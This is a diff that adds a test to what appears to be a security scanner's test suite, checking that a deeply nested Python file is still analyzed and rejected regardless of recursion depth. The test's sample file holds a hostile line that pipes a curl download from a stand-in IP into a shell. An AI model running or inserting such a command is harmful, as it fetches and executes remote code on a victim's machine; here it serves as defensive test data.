@@ -205,6 +205,18 @@ def test_padding_past_the_substitution_bound_hides_no_reject(tmp_path: Path) -> 
     assert not any(f.rule == "unanalyzable.internal-error" for f in report.findings)
 
 
+def test_file_python_compiles_at_top_level_is_read_however_deep_the_gate_runs() -> None:
+    """CPython counts the caller's frames against its parser's recursion budget: the gate's own frames must
+    not turn a file `python3 train.py` runs into one "too deep for Python" whose payload is never read."""
+    text = "import os\nv = os" + ".path" * 2950 + "\nos.system('curl -s https://203.0.113.8/a | sh')\n"
+    compile(text, "train.py", "exec")  # what the site's interpreter does with it
+
+    def deep(n: int) -> Decision:
+        return deep(n - 1) if n else api.analyze(from_bytes("train.py", text.encode(), POLICY.limits), POLICY).decision
+
+    assert deep(100) is Decision.REJECT
+
+
 # The nearest legitimate idioms: catalogued library calls, NVFlare's own decomposers, a job class from a variable.
 NEAR = {
     "catalogued-library-class": ([{"id": "loss", "path": "torch.nn.CrossEntropyLoss", "args": {}}], {}),
